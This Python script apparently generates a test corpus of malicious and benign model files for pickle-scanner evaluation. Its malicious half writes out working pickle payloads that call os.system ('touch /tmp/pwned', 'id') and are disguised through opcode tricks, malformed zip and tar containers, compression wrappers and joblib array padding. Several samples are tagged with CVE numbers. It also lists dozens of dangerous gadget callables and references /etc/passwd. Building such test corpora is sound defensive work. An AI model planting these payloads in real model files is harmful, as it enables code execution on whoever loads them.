"""Writes the samples: `make.py FOLDER` makes FOLDER/malicious and FOLDER/benign.

None of the malicious ones is ever unpickled. Each is one way that a scanner was
passed by, or one container that a loader looks into; CVE numbers where there are.
"""

import bz2
import collections
import gzip
import io
import lzma
import os
import pickle
import random
import struct
import sys
import tarfile
import zlib

import joblib_arrays as j
import stand_ins as s
from containers import Zip, npy, safetensors, tar, torch_legacy, torch_pickle, torch_zip

PAYLOAD = "touch /tmp/pwned"

# What was missing in some list, or is in none.
GADGETS = """
os.system posix.system nt.system os.popen os.execv os.spawnl subprocess.Popen subprocess.run subprocess.check_output subprocess.getoutput
builtins.eval builtins.exec builtins.compile builtins.__import__ builtins.getattr builtins.open builtins.apply builtins.breakpoint builtins.globals
__builtin__.eval __builtin__.getattr importlib.import_module importlib.machinery.SourceFileLoader runpy.run_module runpy.run_path marshal.loads
pickle.loads _pickle.loads pickle.Unpickler types.CodeType types.FunctionType functools.partial functools.reduce operator.attrgetter
operator.methodcaller operator.itemgetter ctypes.CDLL ctypes.WinDLL ctypes.cdll.LoadLibrary pty.spawn pydoc.locate pydoc.pipepager pip.main
pip._internal.main timeit.timeit cProfile.run profile.run pdb.run bdb.Bdb.run code.interact code.InteractiveInterpreter idlelib.run.Executive
idlelib.pyshell.ModifiedInterpreter numpy.f2py.crackfortran.getlincoef numpy.testing._private.utils.runstring torch.utils.bottleneck.__main__.run_cprofile
torch.utils._config_module.load_config torch.utils.collect_env.run torch.hub.load torch.load torch.storage._load_from_bytes torch._dynamo.guards.GuardBuilder.get
torch.jit.unsupported_tensor_ops.execWrapper pkgutil.resolve_name uuid._get_command_stdout _osx_support._read_output _aix_support._read_cmd_output
_pyrepl.pager.pipe_pager imaplib.IMAP4_stream webbrowser.open antigravity.fly smtplib.SMTP socket.socket http.client.HTTPSConnection urllib.request.urlopen
requests.api.get aiohttp.client.ClientSession asyncio.create_subprocess_shell shutil.rmtree tempfile.NamedTemporaryFile multiprocessing.util.spawnv_passfds
concurrent.futures.process._python_exit logging.config.listen logging.config.dictConfig distutils.file_util.write_file lib2to3.pgen2.pgen.ParserGenerator
doctest.debug_script trace.Trace.run venv.create ensurepip._run_pip sqlite3.connect zipimport.zipimporter site.main nturl2path.url2pathname
sklearn.svm._classes.SVC joblib.numpy_pickle.NumpyArrayWrapper dill._dill._import_module cloudpickle.cloudpickle._builtin_type keras.models.load_model
transformers.pipelines.pipeline pandas.read_pickle numpy.load numpy.core.multiarray.fromfile collections.namedtuple copyreg.add_extension
""".split()

samples = {"malicious": {}, "benign": {}}


def malicious(name, content):
    assert name not in samples["malicious"], name
    samples["malicious"][name] = content


def benign(name, content):
    assert name not in samples["benign"], name
    samples["benign"][name] = content


def text(value):
    value = value.encode()
    return b"X" + struct.pack("<I", len(value)) + value


def short(value):
    value = value.encode()
    return b"\x8c" + bytes([len(value)]) + value


def call(module="os", name="system", argument=PAYLOAD):
    """MODULE.NAME(ARGUMENT), its result on the stack."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n" + text(argument) + b"\x85R"


def program(body, protocol=2):
    return b"\x80" + bytes([protocol]) + body + b"."


EVIL = program(call())
STATE = collections.OrderedDict(weight=s.tensor("0"), bias=s.tensor("1"))
FLOATS = struct.pack("<4f", 1, 2, 3, 4)
STORAGES = (("0", FLOATS), ("1", FLOATS))


def make_malicious():
    for gadget in GADGETS:
        module, _, name = gadget.rpartition(".")
        malicious(f"gadget-{gadget}.pkl", program(call(module, name)))
    for protocol in range(6):
        class Evil:
            def __reduce__(self):
                return os.system, (PAYLOAD,)

        malicious(f"protocol-{protocol}.bin", pickle.dumps([1, Evil()], protocol))
        malicious(f"protocol-{protocol}-nested.pt", pickle.dumps({"a": [{"b": (Evil(),)}]}, protocol))

    # How a global gets onto the stack, and what calls it.
    m, n = "os", "system"
    malicious("op-global-no-header.pkl", call()[:] + b".")
    malicious("op-inst.pkl", b"(" + text(PAYLOAD) + b"ios\nsystem\n.")
    malicious("op-obj.pkl", b"(cos\nsystem\n" + text(PAYLOAD) + b"o.")
    malicious("op-newobj.pkl", program(b"cos\nsystem\n" + text(PAYLOAD) + b"\x85\x81"))
    malicious("op-newobj-ex.pkl", program(b"cos\nsystem\n" + text(PAYLOAD) + b"\x85}\x92", 4))
    malicious("op-stack-global.pkl", program(short(m) + short(n) + b"\x93" + short(PAYLOAD) + b"\x85R", 4))
    malicious("op-stack-global-at-start.pkl", short(m) + short(n) + b"\x93" + short(PAYLOAD) + b"\x85R.")  # CVE-2025-71325
    malicious("op-stack-global-from-memo.pkl", program(short(m) + b"\x94" + short(n) + b"\x940" + b"0" + b"h\x00h\x01\x93" + short(PAYLOAD) + b"\x85R", 4))
    malicious("op-stack-global-latin.pkl", program(b"U\x02osU\x06system\x93" + short(PAYLOAD) + b"\x85R", 4))
    malicious("op-stack-global-line.pkl", program(b"Vos\nVsystem\n\x93" + short(PAYLOAD) + b"\x85R", 4))
    malicious("op-stack-global-quoted.pkl", program(b"S'os'\nS'system'\n\x93" + short(PAYLOAD) + b"\x85R", 4))
    malicious("op-stack-global-escaped.pkl", program(b"S'\\x6fs'\nS'system'\n\x93" + short(PAYLOAD) + b"\x85R", 4))
    malicious("op-stack-global-not-text.pkl", program(b"K\x01K\x02\x93" + short(PAYLOAD) + b"\x85R", 4))  # modelscan #338
    malicious("op-stack-global-made.pkl", program(b"cbuiltins\nset\n)R" + short(n) + b"\x93" + short(PAYLOAD) + b"\x85R", 4))
    malicious("op-dotted-name.pkl", program(short("collections") + short("OrderedDict.fromkeys.__class__") + b"\x93)R", 4))
    malicious("op-dotted-torch.pkl", program(short("torch") + short("serialization.os.system") + b"\x93" + short(PAYLOAD) + b"\x85R", 4))
    malicious("op-ext1.pkl", program(b"\x82\x01" + text(PAYLOAD) + b"\x85R"))
    malicious("op-ext2.pkl", program(b"\x83\x01\x00)R"))
    malicious("op-ext4.pkl", program(b"\x84\x01\x00\x00\x00)R"))
    malicious("op-persid.pkl", b"Pos.system\n.")
    malicious("op-binpersid-text.pt", program(text("os.system") + b"Q"))
    malicious("op-binpersid-module.pt", program(b"(" + text("module") + b"ctorch\nTensor\n" + text("x.py") + text("import os") + b"tQ"))
    malicious("op-binpersid-kind.pt", program(b"(" + text("storage") + b"cos\nsystem\n" + text("0") + text("cpu") + b"K\x04tQ"))
    malicious("op-buffer.pkl", program(b"\x97", 5))
    malicious("op-read-only-buffer.pkl", program(b"\x97\x98", 5))
    malicious("op-unknown.pkl", program(b"N\xff"))
    malicious("op-unknown-after.pkl", program(call() + b"\xff"))
    malicious("pop-hides.pkl", program(call() + b"0N"))
    malicious("pop-mark-hides.pkl", program(b"(" + call() + b"1N"))
    malicious("left-on-stack.pkl", program(call() + b"N"))
    malicious("dup-call.pkl", program(b"cos\nsystem\n2" + text(PAYLOAD) + b"\x85R"))
    malicious("memo-put-get.pkl", program(b"cos\nsystem\nq\x050h\x05" + text(PAYLOAD) + b"\x85R"))
    malicious("memo-long.pkl", program(b"cos\nsystem\nr\x00\x01\x00\x000j\x00\x01\x00\x00" + text(PAYLOAD) + b"\x85R"))
    malicious("memo-lines.pkl", b"cos\nsystem\np7\n0g7\n" + text(PAYLOAD) + b"\x85R.")
    malicious("memo-memoize-over-put.pkl", program(b"Nq\x000cos\nsystem\n\x940h\x01" + text(PAYLOAD) + b"\x85R", 4))  # picklescan #14
    malicious("memo-replaced.pkl", program(b"ccollections\nOrderedDict\nq\x000cos\nsystem\nq\x000h\x00" + text(PAYLOAD) + b"\x85R"))
    malicious("memo-missing.pkl", program(b"ccollections\nOrderedDict\n)Rh\x77"))
    malicious("build-on-class.pkl", program(b"ctorch\nTensor\n}" + text("__setstate__") + b"cos\nsystem\nsb"))  # modelscan #85
    malicious("build-dunder.pkl", program(b"ccollections\nOrderedDict\n)R}" + text("__class__") + b"Nsb"))
    malicious("build-slots-dunder.pkl", program(b"ccollections\nOrderedDict\n)RN}" + text("__reduce__") + b"Ns\x86b"))
    malicious("build-on-list.pkl", program(b"]}b"))
    malicious("append-to-class.pkl", program(b"ctorch\nTensor\nNa"))
    malicious("setitem-on-class.pkl", program(b"ctorch\nTensor\n" + text("a") + b"Ns"))
    malicious("call-of-result.pkl", program(b"ccollections\nOrderedDict\n)R)R"))
    malicious("call-of-text.pkl", program(text("os.system") + b")R"))
    malicious("call-of-value.pkl", program(b"ctorch\nTensor\n)R"))
    malicious("encode-codec.pkl", program(b"c_codecs\nencode\n" + text("x") + text("zlib") + b"\x86R"))
    malicious("encode-codec-hidden.pkl", program(b"c_codecs\nencode\n" + text("x") + b"N\x86R"))
    malicious("encode-handed-on.pkl", program(b"ctorch._tensor\n_rebuild_from_type_v2\n(c_codecs\nencode\nctorch\nTensor\n)NtR"))
    malicious("reconstructor.pkl", program(b"ccopy_reg\n_reconstructor\n(cos\nsystem\nc__builtin__\nobject\nNtR"))
    malicious("reconstructor-hidden.pkl", program(b"ccopyreg\n_reconstructor\nNNN\x87R"))
    malicious("python-2-name.pkl", program(b"c__builtin__\neval\n" + text("1") + b"\x85R"))
    malicious("unicode-name.pkl", program(b"c" + "ｏｓ".encode() + b"\nsystem\n" + text(PAYLOAD) + b"\x85R"))
    malicious("import-only.pkl", program(b"cantigravity\nx\n0N"))
    malicious("import-only-prose.pkl", b"cantigravity\nx\n" + b"and nothing else\n")

    # Streams that end otherwise than they should.
    malicious("broken-after-payload.pkl", b"\x80\x02" + call() + b"X\xff\xff")
    malicious("broken-without-stop.pkl", b"\x80\x02" + call())
    malicious("broken-frame.pkl", b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\xff" + short("a") + b".")
    malicious("frame-beyond-stop.pkl", b"\x80\x04\x95\x40\x00\x00\x00\x00\x00\x00\x00" + call()[:20] + b"N." + bytes(60))
    malicious("second-pickle.pkl", pickle.dumps({"a": 1}, 2) + EVIL)
    malicious("third-pickle.pkl", pickle.dumps(1, 4) + pickle.dumps([], 0) + EVIL)
    malicious("trailing-bytes.pkl", pickle.dumps({"a": 1}, 2) + b"\x01\x02\x03")
    malicious("trailing-program.pkl", pickle.dumps({"a": 1}, 2) + call() + b".")
    malicious("two-headers.pkl", b"\x80\x02\x80\x02" + call() + b".")
    malicious("truncated.pkl", pickle.dumps({"a": list(range(100))}, 2)[:-20])
    malicious("truncated-with-globals.pt", torch_pickle(STATE)[:-8])
    malicious("stack-underflow.pkl", program(b"ccollections\nOrderedDict\nRRR"))
    malicious("padded-front.pkl", b"N0" * 100 + call() + b".")
    malicious("long-text-before.pkl", program(b"X" + struct.pack("<I", 100_000) + b"x" * 100_000 + b"0" + call()))

    # Containers.
    legit = torch_pickle(STATE)
    spiked = legit[:-1] + b"0" + call() + b"."
    malicious("torch-zip.pt", torch_zip(spiked, STORAGES))
    malicious("torch-zip-other-name.safetensors", torch_zip(spiked, STORAGES))
    malicious("torch-zip-wide.pt", torch_zip(spiked, STORAGES, wide=True))
    malicious("torch-zip-other-entry.pt", torch_zip(legit, STORAGES, more=[("extra/any.txt", EVIL)]))
    malicious("torch-zip-other-folder.pt", torch_zip(legit, STORAGES, zip=Zip().add("other/data.pkl", EVIL)))
    malicious("torch-zip-constants.pt", torch_zip(legit, STORAGES, more=[("constants.pkl", EVIL)]))
    malicious("torch-script.pt", torch_zip(legit, STORAGES, more=[("code/__torch__.py", b"def forward(self):\n  return 1\n")]))
    malicious("torch-zip-in-zip.pt", torch_zip(legit, STORAGES, more=[("inner.zip", torch_zip(spiked, STORAGES))]))
    malicious("torch-zip-packed.pt", torch_zip(spiked, STORAGES, zip=Zip(packed=True)))
    malicious("zip-local-name.pt", Zip().add("archive/data.pkl", EVIL, local_name=b"archive/data.txt").finish())  # CVE-2025-1944
    # What stops one loader doesn't stop another.
    malicious("persistent-first.png", b"\x89PNG\n0" + call() + b".")
    malicious("extension-first.msgpack", b"\x83\xa6p0" + call() + b".")
    malicious("prose-first.md", b"I1\n.cos\nsystem\n(S'id'\ntR.")
    malicious("persistent.pkl", b"Pfile:///etc/passwd\n.")
    malicious("zip-local-name-benign.pt", Zip().add("archive/data.pkl", legit, local_name=b"archive/other.pkl").finish())
    malicious("zip-encrypted-flag.pt", Zip().add("archive/data.pkl", legit, flags=0x0809).finish())  # CVE-2025-1945
    malicious("zip-strong-flag.pt", Zip().add("archive/data.pkl", legit, flags=0x0848).finish())
    malicious("zip-local-flags.pt", Zip().add("archive/data.pkl", legit, local_flags=0x0009).finish())
    malicious("zip-local-method.pt", Zip().add("archive/data.pkl", legit, local_method=8).finish())
    malicious("zip-method.pt", Zip().add("archive/data.pkl", legit, method=12).finish())
    malicious("zip-bad-sum.pt", Zip().add("archive/data.pkl", legit, crc=1, descriptor_crc=1).finish())  # CVE-2025-10156
    malicious("zip-bad-descriptor.pt", Zip().add("archive/data.pkl", legit, descriptor_crc=1).finish())
    malicious("zip-sizes.pt", Zip(described=False).add("archive/data.pkl", legit, size=10, packed=10).finish())
    malicious("zip-local-sizes.pt", Zip(described=False).add("archive/data.pkl", legit, local_sizes=(0, 4, 4)).finish())
    malicious("zip-twice.pt", Zip().add("archive/data.pkl", legit).add("archive/data.pkl", EVIL).finish())
    malicious("zip-overlap.pt", Zip().add("archive/data.pkl", legit).add("archive/b.pkl", legit, header=0).finish())
    malicious("zip-gap.pt", Zip().add("archive/data.pkl", legit, gap=EVIL).add("archive/version", b"3").finish())
    malicious("zip-prefix.pt", torch_zip(legit, STORAGES, prefix=EVIL))
    malicious("zip-prefix-script.pt", torch_zip(legit, STORAGES, prefix=b"#!/bin/sh\nid\n"))
    malicious("zip-suffix.pt", torch_zip(legit, STORAGES, suffix=EVIL))
    malicious("zip-comment.pt", torch_zip(legit, STORAGES, comment=b"PK\x05\x06"))
    malicious("zip-entry-comment.pt", Zip().add("archive/data.pkl", legit, comment=b"x").finish())
    malicious("zip-count.pt", torch_zip(legit, STORAGES, count=3))
    malicious("zip-offset.pt", torch_zip(legit, STORAGES, offset=64))
    malicious("zip-cut.pt", torch_zip(legit, STORAGES)[:-30])
    malicious("zip-empty-name.pt", Zip().add("", legit).finish())
    malicious("zip-nul-name.pt", Zip().add(b"archive/data.pkl\0.txt", legit).finish())
    malicious("seven-zip.pt", b"7z\xbc\xaf\x27\x1c\x00\x04" + EVIL)  # nullifAI
    malicious("rar.bin", b"Rar!\x1a\x07\x01\x00" + EVIL)
    malicious("lz4.joblib", b"\x04\x22\x4d\x18" + EVIL)
    malicious("zstd.bin", b"\x28\xb5\x2f\xfd" + EVIL)
    malicious("gzip.pkl.gz", gzip.compress(EVIL, mtime=0))
    malicious("gzip-other-name.safetensors", gzip.compress(EVIL, mtime=0))
    malicious("gzip-twice.bin", gzip.compress(gzip.compress(EVIL, mtime=0), mtime=0))
    malicious("gzip-behind.bin", gzip.compress(pickle.dumps(1), mtime=0) + EVIL)
    malicious("gzip-second-member.bin", gzip.compress(pickle.dumps(1), mtime=0) + gzip.compress(EVIL, mtime=0))
    malicious("gzip-cut.bin", gzip.compress(EVIL * 20, mtime=0)[:-12])
    malicious("bzip2.joblib", bz2.compress(EVIL))
    malicious("xz.joblib", lzma.compress(EVIL))
    malicious("lzma.joblib", lzma.compress(EVIL, lzma.FORMAT_ALONE))
    malicious("zlib.joblib", zlib.compress(EVIL))
    malicious("zlib-fast.joblib", zlib.compress(EVIL, 1))
    malicious("tar.tar", tar(("weights/data.pkl", EVIL)))
    malicious("tar-other-name.bin", tar(("readme.txt", b"hello"), ("b", EVIL)))
    malicious("tar-gzip.nemo", gzip.compress(tar(("model_weights.ckpt", torch_zip(spiked, STORAGES))), mtime=0))
    malicious("tar-link.tar", tar(("a", b""), kind=tarfile.SYMTYPE))
    malicious("tar-device.tar", tar(("a", b""), kind=tarfile.CHRTYPE))
    malicious("tar-behind.tar", tar(("a", b"hello")) + EVIL)
    malicious("tar-torch.pt", tar(("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", pickle.dumps({}, 2))))  # CVE-2025-32434
    malicious("numpy-object.npy", npy("|O", EVIL))
    malicious("numpy-object-2.npy", npy("|O", EVIL, 2))
    malicious("numpy-record.npy", npy([("a", "<f4"), ("b", "|O")], EVIL))
    malicious("numpy-hidden.npy", npy("<f8", EVIL))
    malicious("numpy-zip.npz", Zip(aligned=False, described=False).add("a.npy", npy("<f8", bytes(32))).add("b.npy", npy("|O", EVIL)).finish())
    malicious("numpy-zip-packed.npz", Zip(aligned=False, described=False, packed=True).add("b.npy", npy("|O", EVIL)).finish())
    malicious("numpy-head.npy", b"\x93NUMPY\x09\x00" + EVIL)
    legacy = [("0", 4, FLOATS), ("1", 4, FLOATS)]
    malicious("legacy-object.pth", torch_legacy(spiked, legacy))
    malicious("legacy-behind.pth", torch_legacy(legit, legacy, EVIL))
    malicious("legacy-storage.pth", torch_legacy(legit, [("0", 9, FLOATS), ("1", 4, FLOATS)]))
    malicious("legacy-cut.pth", torch_legacy(legit, legacy)[:-4])
    malicious("legacy-two.pth", torch_legacy(legit, [])[:60] + EVIL)
    malicious("safetensors-then-zip.safetensors", safetensors() + torch_zip(spiked, STORAGES))


def make_malicious_arrays():
    """Where a loader reads on elsewhere than a scanner thinks, or another loader than joblib's does."""
    evil = s.Reduced(s.function("posix", "system"), (PAYLOAD,))
    call = b"cposix\nsystem\nX\x02\x00\x00\x00id\x85R0"
    state = j.Array().state(True)
    for protocol in (2, 3, 4, 5):
        malicious(f"joblib-behind-{protocol}.joblib", j.dump([j.Array(), evil], protocol))
    malicious("joblib-before.joblib", j.dump([evil, j.Array()]))
    malicious("joblib-zlib.joblib", zlib.compress(j.dump([j.Array(), evil])))
    malicious("joblib-old-behind.joblib", j.dump([j.Array(), evil], is_padded=False))
    malicious("joblib-objects.joblib", j.dump({"a": j.Objects(pickle.dumps(evil, 2))}))
    malicious("joblib-objects-4.joblib", j.dump({"a": j.Objects(pickle.dumps(evil, 4))}))
    malicious("joblib-objects-wrapper.joblib", j.dump(j.Objects(j.wrapped(j.program(state), call.ljust(32, b"0")))))
    # To loaders other than joblib's, what stands in the array is more of the program.
    malicious("joblib-plain.joblib", j.dump({"a": j.Array(call.ljust(32, b"N"))}, is_padded=False))
    malicious("joblib-plain-2.joblib", j.dump({"a": j.Array(b"\x80\x02" + call.ljust(30, b"N"))}, 2, is_padded=False))
    malicious("joblib-plain-frame.joblib", j.dump({"a": j.Array(b"\x95" + bytes(8) + call.ljust(31, b"N"), (5,))}, is_padded=False))
    malicious("joblib-plain-next.joblib", j.dump({"a": j.Array((b"0." + call).ljust(32, b"N"))}, is_padded=False))
    # Versions before 1.2 don't skip the padding, so that the array's end is more of the program.
    malicious("joblib-unpadded-end.joblib", j.dump({"a": ("id",), "b": j.Array(bytes(15) + b"cos\nsystem\nh\x05R", padding=b"\x10" + b"\xff" * 16)}, 2))
    # Not as joblib writes them: nobody can say how joblib goes on.
    malicious("joblib-read.joblib", j.dump(j.Array(read=s.Reduced(s.dtype, ("f8",)))))
    malicious("joblib-missing.joblib", j.dump(j.Array()).replace(b"shape", b"shapf"))
    malicious("joblib-negative.joblib", j.dump(j.Array(shape=(-4, -1))))
    malicious("joblib-huge.joblib", j.dump(j.Array(shape=(1 << 62, 1 << 62))))
    malicious("joblib-list.joblib", j.dump(j.Array(shape=[4])))
    malicious("joblib-float.joblib", j.dump(j.Array(shape=(4.0,))))
    malicious("joblib-order.joblib", j.dump(j.Array(order="K")))
    malicious("joblib-subclass.joblib", j.dump(j.Array(subclass="ndarray")))
    malicious("joblib-padding.joblib", j.dump(j.Array(padding=b"\xc8" + b"\xff" * 200)))
    malicious("joblib-no-padding.joblib", j.dump(j.Array(padding=b"\x00")))
    for name, dtype in {
        "list": j.described("f8,O"), "flags": j.described("f8", flags=1), "no-flags": j.described("O8", "|"), "size": j.described("f8", size=4), "odd": j.described("f3"),
        "part": s.Reduced(s.dtype, ("V16", False, True), (3, "|", (j.described("O8", "|", flags=63), (2,)), None, None, 16, 1, 0)),
        "record": j.described("V8", "|", 8, names=("a",), fields={"a": (j.described("O8", "|", flags=63), 0)}),
        "record-outside": j.described("V8", "|", 8, names=("a",), fields={"a": (j.described("f8"), 4)}),
        "record-names": j.described("V8", "|", 8, names=("a", "b"), fields={"a": (j.described("f8"), 0)}),
        "made": s.Reduced(s.dtype, (s.Reduced(s.dtype, ("f8",)),)), "text": "f8",
    }.items():
        malicious(f"joblib-dtype-{name}.joblib", j.dump(j.Array(bytes(64), (2,), dtype=dtype)))
    malicious("joblib-twice.joblib", j.wrapped(j.program(state) + b"b\x01\xff" + bytes(32) + b"}")[:-1] + b".")
    malicious("joblib-again.joblib", j.dump([j.Array()], 2)[:-1] + b"0h\x00}b" + call + b".")
    malicious("joblib-slots.joblib", j.wrapped(j.program((state, {})), bytes(32)))
    malicious("joblib-frame.joblib", b"\x80\x04" + b"\x95" + struct.pack("<Q", 400) + j.wrapped(j.program(state), bytes(400))[2:])
    malicious("joblib-reduce.joblib", b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n(" + j.program(s.ndarray) + j.program((4,)) + j.program("C") + j.program(j.described("f8")) + b"tR}b\x01\xff" + bytes(32) + b".")
    malicious("joblib-object.joblib", b"\x80\x02(cjoblib.numpy_pickle\nNumpyArrayWrapper\no" + j.program(state) + b"b\x01\xff" + bytes(32) + b".")
    malicious("joblib-handed-on.joblib", pickle.dumps(s.Reduced(s.rebuild_from_type_v2, (j.Wrapper, j.Wrapper, (), state)), 2))
    malicious("joblib-reconstructor.joblib", b"ccopy_reg\n_reconstructor\n(cjoblib.numpy_pickle\nNumpyArrayWrapper\nc__builtin__\nobject\nI1\ntR" + pickle.dumps(state, 1)[:-1] + b"b\x01\xff" + bytes(32) + b".")
    malicious("joblib-cut.joblib", j.dump(j.Array())[:-8])
    malicious("joblib-ndarraywrapper.joblib", j.dump(j.Array()).replace(b"NumpyArrayWrapper", b"ZNDArrayWrapperXX"))


# How files begin that models hold beside pickles; some of these bytes are opcodes.
HEADS = {
    "a.gif": b"GIF89a", "a.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF", "a.mp3": b"ID3\x03\x00", "a.mp4": b"\x00\x00\x00\x20ftypisom", "a.pdf": b"%PDF-1.4\n",
    "a.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "a.ttf": b"\x00\x01\x00\x00\x00\x12", "a.wasm": b"\x00asm\x01\x00\x00\x00", "a.wav": b"RIFF\x24\x08\x00\x00WAVEfmt ",
    "data.arrow": b"ARROW1\x00\x00", "data.parquet": b"PAR1\x15\x04\x15", "data.sqlite": b"SQLite format 3\x00", "flax.msgpack": b"\x83\xa6params\x82",
    "ggml.bin": b"lmgg\x8c\xca\x00\x00\xdc\x05\x00\x00", "gguf.bin": b"GGUF\x03\x00\x00\x00", "lib.so": b"\x7fELF\x02\x01\x01", "model.h5": b"\x89HDF\r\n\x1a\n",
    "model.mlmodel": b"\x08\x01\x12", "model.onnx": b"\x08\x08\x12\x07pytorch\x1a\x031.13", "model.tflite": b"\x1c\x00\x00\x00TFL3", "ncnn.bin": b"\x47\x6b\x30\x01",
    "saved_model.pb": b"\x08\x01\x12\xf3\x01\x0a", "spiece.model": b"\x0a\x0e\x0a\x05<unk>\x15\x00\x00\x00\x00\x18\x02",
}
# Sentences that begin like pickles of protocol 0 and end where one would.
PROSE = (
    "Git v2.25.4 is out.\n\nThis model was trained on code.\n", "I\n.\nI am a model.\n", "Gemma is provided under terms.\nSee the licence.\n", "N. B.: this model needs care.\n",
    "K-means. A baseline.\n",
)


def make_benign():
    noise = random.Random(7)
    for name, head in HEADS.items():
        benign(f"format-{name}", head + noise.randbytes(4096))
    for number, prose in enumerate(PROSE):
        benign(f"prose-{number}.md", prose.encode())
    values = {
        "dictionary": {"a": 1, "b": [1.5, None, True, False], "c": ("x", b"y")},
        "sets": [{1, 2}, frozenset({3}), set(), frozenset()],
        "numbers": [0, -1, 255, 65535, 1 << 31, 1 << 70, -(1 << 2000), 1e300, complex(1, 2)],
        "texts": ["", "ü 模型", "x" * 300, "y" * 70_000, "line\nbreak 'quoted' \\ and \"double\""],
        "bytes": [b"", b"\x00\xff" * 200, bytearray(b"abc"), bytes(70_000)],
        "ordered": collections.OrderedDict(a=1, b=collections.OrderedDict()),
        "counter": collections.Counter("abcabc"),
        "nested": [[[[[[{"a": ({"b": []},)}]]]]]],
    }
    for name, value in values.items():
        for protocol in range(6):
            benign(f"{name}-{protocol}.pkl", pickle.dumps(value, protocol))
    shared = [1, 2]
    benign("recursive.pkl", pickle.dumps([shared, shared, {"again": shared}], 2))
    benign("several.pkl", pickle.dumps(1, 2) + pickle.dumps({"a": 2}, 4) + pickle.dumps([], 0))
    for package in ("numpy.core", "numpy._core"):
        for protocol in (2, 3, 4, 5):
            benign(f"{package}-array-{protocol}.pkl", pickle.dumps({"w": s.numpy_array(package), "x": s.numpy_scalar(package)}, protocol))
    benign("numpy-frombuffer.pkl", pickle.dumps(s.Reduced(s.frombuffer, (bytearray(32), s.numpy_dtype(), (4,), "C")), 5))
    benign("numpy.npy", npy("<f8", struct.pack("<4d", 1, 2, 3, 4)))
    benign("numpy-2.npy", npy("<f4", FLOATS, 2))
    benign("numpy-object.npy", npy("|O", pickle.dumps(s.numpy_array(), 3)))
    benign("numpy.npz", Zip(aligned=False, described=False).add("a.npy", npy("<f8", bytes(32))).add("b.npy", npy("<f4", FLOATS)).finish())
    benign("numpy-packed.npz", Zip(aligned=False, described=False, packed=True).add("a.npy", npy("<f8", bytes(320))).finish())
    program_of_state = torch_pickle(STATE)
    parameters = torch_pickle({"p": s.Reduced(s.rebuild_parameter, (s.tensor("0", kind=s.HalfStorage), True, collections.OrderedDict()))})
    subclass = torch_pickle(s.Reduced(s.rebuild_from_type_v2, (s.rebuild_tensor_v2, s.Tensor, (s.Storage(s.FloatStorage, "0", 4), 0, (4,), (1,), False, collections.OrderedDict()), {})))
    size = torch_pickle({"shape": s.Reduced(s.Size, ((2, 2),)), "step": 3})
    for name, state in (("state", program_of_state), ("parameters", parameters), ("subclass", subclass), ("size", size)):
        benign(f"torch-{name}.pt", torch_zip(state, STORAGES))
    benign("torch-wide.pt", torch_zip(program_of_state, STORAGES, wide=True))
    benign("torch-packed.zip", torch_zip(program_of_state, STORAGES, zip=Zip(packed=True)))
    benign("torch-plain.zip", torch_zip(program_of_state, STORAGES, zip=Zip(aligned=False, described=False)))
    benign("torch-legacy.pth", torch_legacy(program_of_state, [("0", 4, FLOATS), ("1", 4, FLOATS)]))
    benign("gzip.pkl.gz", gzip.compress(pickle.dumps({"a": 1}, 4), mtime=0))
    benign("zlib.joblib", zlib.compress(pickle.dumps({"a": 1}, 4)))
    benign("xz.joblib", lzma.compress(pickle.dumps({"a": 1}, 4)))
    benign("tar.nemo", tar(("config.yaml", b"a: 1\n"), ("weights.ckpt", torch_zip(program_of_state, STORAGES))))
    benign("model.safetensors", safetensors())
    benign("odd-length.safetensors", safetensors(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'.ljust(0x0280)))
    benign("model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(64))
    benign("config.json", b'{"model_type": "llama"}\n')
    benign("README.md", "changelog\nversion one\nof a model\n".encode())
    benign("copying.txt", b"copyright (c) somebody\nand others\n")
    benign("notes.txt", b"changes\nversions\nand so on, in prose\n")
    benign("vocab.txt", b"(cat\ndog\n")
    benign("empty.bin", b"")
    benign("zeros.bin", bytes(4096))
    benign("random.bin", bytes((i * 2654435761 >> 13) & 255 for i in range(20_000)))


def make_benign_arrays():
    numbers = struct.pack("<12d", *range(12))
    record = j.described("V12", "|", 12, names=("left", "value"), fields={"left": (j.described("i4"), 0), "value": (j.described("f8"), 4)})
    values = {
        "numbers": j.Array(numbers, (3, 4)), "fortran": j.Array(numbers, (3, 4), order="F"), "empty": j.Array(b"", (0, 3)), "one": j.Array(numbers[:8], ()),
        "truths": j.Array(b"\x01\x00", (2,), j.described("b1", "|")), "texts": j.Array(bytes(24), (2,), j.described("U3", "<", 12, 8)),
        "bytes": j.Array(b"abc\x00", (2,), j.described("S2", "|", 2)), "dates": j.Array(bytes(8), (1,), j.described("M8", more=(({}, (b"D", 1, 1, 1)),), version=4)),
        "records": j.Array(bytes(36), (3,), record), "objects": j.Objects(pickle.dumps(s.numpy_array("numpy.core"), 2)),
        "several": {"a": j.Array(), "b": [j.Array(numbers, (12,)), j.Array(bytes(4096), (512,))], "c": ("x", j.Array(b"", (0,)))},
        # What other loaders would take for a program ends before it does anything.
        "like-opcodes": j.Array(b"NNNN" * 8), "like-names": j.Array(b"cabc\nde\x80".ljust(32, b"\x00")),
    }
    for name, value in values.items():
        for protocol in (2, 4):
            benign(f"joblib-{name}-{protocol}.joblib", j.dump(value, protocol))
        if not name.startswith("like-"):
            benign(f"joblib-{name}-old.joblib", j.dump(value, 3, is_padded=False))
    for protocol in (0, 1, 3, 5):
        benign(f"joblib-several-{protocol}.joblib", j.dump(values["several"], protocol))
    for packing in (zlib, bz2, lzma, gzip):
        benign(f"joblib-{packing.__name__}.joblib", packing.compress(j.dump(values["several"])))


def main(folder):
    make_malicious()
    make_malicious_arrays()
    make_benign()
    make_benign_arrays()
    for kind, files in samples.items():
        os.makedirs(os.path.join(folder, kind), exist_ok=True)
        for name, content in files.items():
            with open(os.path.join(folder, kind, name.replace("/", "_")), "wb") as file:
                file.write(content)
        print(kind, len(files))


if __name__ == "__main__":
    sys.dont_write_bytecode = True
    main(sys.argv[1])
